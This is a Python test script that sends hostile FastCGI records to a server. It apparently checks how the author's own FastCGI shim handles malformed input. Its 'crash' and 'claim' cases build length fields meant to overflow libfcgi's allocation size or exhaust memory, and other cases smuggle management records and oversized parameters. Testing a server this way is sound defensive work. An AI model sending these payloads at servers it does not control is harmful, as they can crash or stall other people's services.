#!/usr/bin/env python3
"""Hostile FastCGI byte sequences, sent straight to a FastCGI server.

usage: fcgi_hostile.py HOST PORT CASE [HOLD]

Connects to HOST:PORT (an IPv6 address too), sends the bytes of CASE at
once and watches the connection for HOLD seconds (default 3).  Prints one
line: "closed SECONDS" when the server closed it (end of stream or reset)
SECONDS after the connect, or "open"; either followed by " status NNN" when
the server sent a reply with that status.  Exit 1 if the connect fails.

Cases (all request id 1; "a request" is POST /notify/hostile with the body
"{}", as nginx sends it):

  crash      BEGIN_REQUEST and a 16-byte PARAMS record whose one pair has
             name and value lengths of 0x40000000 in the 4-byte form: their
             sum overflows libfcgi's int malloc size
  claim      a request whose PARAMS start with a pair claiming a 1 GiB name,
             followed by 100 bytes and nothing more
  oversized  a request with 70,000 bytes of PARAMS, every pair well formed
  large      a request with 60,000 bytes of PARAMS (under the shim's 64 KiB)
  version    a request whose BEGIN_REQUEST record says version 2
  getvalues  FCGI_GET_VALUES (a management record) asking for FCGI_MAX_CONNS
             four times, then a request
  stdin_mgmt a request whose STDIN stream has, before the body, a management
             record with the pair of `crash'
  keep       a request with FCGI_KEEP_CONN, then at once a second request
             (request id 2) whose PARAMS are `crash''s
  request    a request (the control case)
"""
import re
import select
import socket
import struct
import sys
import time


def record(rtype, content, request_id=1, version=1, padding=0):
    return struct.pack("!BBHHBx", version, rtype, request_id, len(content), padding) + \
        content + b"\0" * padding


def length(n):
    return bytes([n]) if n < 128 else struct.pack("!I", n | 0x80000000)


def pair(name, value):
    return length(len(name)) + length(len(value)) + name + value


def stream(rtype, data, request_id=1):
    """data as records of at most 65535 bytes, then the empty record."""
    out = b""
    for i in range(0, len(data), 65535):
        out += record(rtype, data[i:i + 65535], request_id)
    return out + record(rtype, b"", request_id)


def begin(flags=0, request_id=1, version=1):
    return record(1, struct.pack("!HB5x", 1, flags), request_id, version)


def request(pad=0, flags=0, request_id=1, version=1, stdin_first=b""):
    params = pair(b"REQUEST_METHOD", b"POST") + pair(b"PATH_INFO", b"/notify/hostile") + \
        pair(b"CONTENT_LENGTH", b"2") + pair(b"REMOTE_ADDR", b"127.0.0.1")
    if pad:
        params += pair(b"HTTP_X_PAD", b"p" * (pad - len(params) - 14))
    return begin(flags, request_id, version) + stream(4, params, request_id) + \
        stdin_first + stream(5, b"{}", request_id)


CRASH_PAIR = struct.pack("!II", 0xC0000000, 0xC0000000)


def case_bytes(name):
    if name == "crash":
        return begin() + record(4, CRASH_PAIR)
    if name == "claim":
        return begin() + record(4, struct.pack("!IB", 0xBFFFFFFF, 0) + b"n" * 100)
    if name == "oversized":
        return request(pad=70000)
    if name == "large":
        return request(pad=60000)
    if name == "version":
        return request(version=2)
    if name == "getvalues":
        ask = pair(b"FCGI_MAX_CONNS", b"") * 4
        return record(9, ask, request_id=0) + request()
    if name == "stdin_mgmt":
        return request(stdin_first=record(9, CRASH_PAIR, request_id=0))
    if name == "keep":
        return request(flags=1) + begin(request_id=2) + record(4, CRASH_PAIR, request_id=2)
    if name == "request":
        return request()
    raise SystemExit("unknown case %s" % name)


def main():
    host, port, name = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    hold = float(sys.argv[4]) if len(sys.argv) > 4 else 3.0
    data = case_bytes(name)
    try:
        s = socket.create_connection((host, port), timeout=5)
    except OSError as e:
        print("connect failed: %s" % e)
        return 1
    opened = time.monotonic()
    got = bytearray()
    closed = None
    try:
        s.sendall(data)
    except OSError:
        closed = time.monotonic() - opened
    s.setblocking(False)
    end = opened + hold
    while closed is None and time.monotonic() < end:
        readable, _, _ = select.select([s], [], [], max(0.0, end - time.monotonic()))
        if not readable:
            continue
        try:
            chunk = s.recv(65536)
        except BlockingIOError:
            continue
        except OSError:
            chunk = b""
        if not chunk:
            closed = time.monotonic() - opened
        got += chunk
    status = re.search(rb"Status: (\d+)", bytes(got))
    print("%s%s" % ("open" if closed is None else "closed %.2f" % closed,
                    " status " + status.group(1).decode() if status else ""))
    s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
